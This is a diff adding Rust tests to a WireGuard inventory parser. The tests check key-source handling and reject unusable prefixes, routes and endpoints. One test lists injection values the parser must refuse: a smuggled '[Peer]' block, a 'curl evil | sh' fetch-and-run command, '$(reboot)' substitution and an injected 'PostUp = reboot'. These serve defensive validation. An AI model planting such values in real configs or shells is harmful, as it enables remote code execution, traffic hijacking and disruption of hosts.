@@ -40,7 +40,7 @@ fn applies_defaults() {
     assert_eq!(relay.listen_port, Some(51820));
     assert_eq!(relay.mtu, DEFAULT_MTU);
     assert_eq!(relay.line, 5);
-    assert_eq!(relay.key_file, Path::new("/etc/wgfabric/private.key"));
+    assert_eq!(relay.key_source.to_string(), "file:/etc/wgfabric/private.key");
     let laptop = &inventory.hosts["laptop"];
     assert_eq!((laptop.role, laptop.listen_port, laptop.keepalive), (Role::Spoke, None, Some(25)));
     assert_eq!(inventory.networks["corp"].interface, "wg0");
@@ -101,4 +101,70 @@ fn an_inventory_needs_a_network_with_a_prefix() {
     assert_eq!(parse("").unwrap_err().field, "network");
     let err = parse("[network.corp]\ntopology = \"mesh\"\n").unwrap_err();
     assert_eq!((err.line, err.field.as_str()), (1, "network.corp"));
+}
+
+#[test]
+fn key_locations_are_plain_paths_or_sources() {
+    let with = |host: &str, defaults: &str| {
+        let text = base().replace("nat = true", &format!("nat = true\n{host}"));
+        parse(&format!("[defaults]\n{defaults}\n{text}"))
+    };
+    let inventory = with("", "key_dir = \"/srv/wg\"").unwrap();
+    assert_eq!(inventory.hosts["laptop"].key_source.to_string(), "file:/srv/wg/private.key");
+    let inventory =
+        with("key_file = \"/k/laptop.key\"", "key_source = \"systemd-credential:wg\"").unwrap();
+    assert_eq!(inventory.hosts["laptop"].key_source.to_string(), "file:/k/laptop.key");
+    assert_eq!(inventory.hosts["relay-a"].key_source.to_string(), "systemd-credential:wg");
+    let inventory = with("key_source = [\"exec:pass\", \"show\", \"wg/laptop\"]", "").unwrap();
+    assert_eq!(inventory.hosts["laptop"].key_source.to_string(), "exec:pass show wg/laptop");
+
+    // What once reached wg-quick's PostUp, networkd and the setconf header unchecked.
+    for (host, defaults, field) in [
+        ("key_file = \"/k\\n[Peer]\\nAllowedIPs = 0.0.0.0/0\"", "", "host.laptop.key_file"),
+        ("key_file = \"/k; curl evil | sh\"", "", "host.laptop.key_file"),
+        ("", "key_dir = \"/etc/my keys\"", "defaults.key_dir"),
+        ("key_source = \"file:/k$(reboot)\"", "", "host.laptop.key_source"),
+        ("key_source = [\"exec:pass\", \"a\\nPostUp = reboot\"]", "", "host.laptop.key_source"),
+    ] {
+        let err = with(host, defaults).unwrap_err();
+        assert_eq!(err.field, field, "{err}");
+        assert!(!err.message.contains('\n'), "{err}");
+    }
+    let both = with("key_file = \"/k\"\nkey_source = \"file:/j\"", "").unwrap_err();
+    assert!(both.message.contains("keep one"), "{both}");
+}
+
+#[test]
+fn overlays_routes_and_endpoints_must_be_usable() {
+    for (from, to, field, says) in [
+        ("10.77.0.0/16", "0.0.0.0/0", "network.corp.ipv4", "default route"),
+        ("fd77::/64", "::/0", "network.corp.ipv6", "default route"),
+        ("10.77.0.0/16", "224.1.0.0/16", "network.corp.ipv4", "multicast"),
+        ("10.77.0.0/16", "127.0.0.0/8", "network.corp.ipv4", "loopback"),
+        ("10.77.0.0/16", "169.254.0.0/16", "network.corp.ipv4", "link-local"),
+        ("10.77.0.0/16", "0.0.0.0/8", "network.corp.ipv4", "unspecified"),
+        ("10.77.0.0/16", "10.77.0.0/31", "network.corp.ipv4", "no room for hosts"),
+        ("fd77::/64", "::ffff:0:0/96", "network.corp.ipv6", "IPv4-mapped"),
+        ("fd77::/64", "fe80::/64", "network.corp.ipv6", "link-local"),
+        ("fd77::/64", "ff05::/64", "network.corp.ipv6", "multicast"),
+        ("relay-a.example.com:51820", "0.0.0.0:51820", "host.relay-a.endpoint", "unspecified"),
+        ("relay-a.example.com:51820", "[ff02::1]:51820", "host.relay-a.endpoint", "multicast"),
+    ] {
+        let err = parse(&base().replace(from, to)).unwrap_err();
+        assert_eq!(err.field, field, "{to}: {err}");
+        assert!(err.message.contains(says), "{to}: {err}");
+    }
+    let text =
+        base().replace("nat = true", "nat = true\nroutes = [\"10.20.0.0/16\", \"127.0.0.0/8\"]");
+    let err = parse(&text).unwrap_err();
+    assert_eq!((err.line, err.field.as_str()), (12, "host.laptop.routes"));
+    assert!(err.message.contains("loopback"), "{err}");
+}
+
+#[test]
+fn free_text_is_one_line() {
+    let text =
+        format!("{}\n[external.vpc]\ncidr = \"10.0.0.0/16\"\ndescription = \"a\\nb\"\n", base());
+    let err = parse(&text).unwrap_err();
+    assert_eq!(err.field, "external.vpc.description");
 }
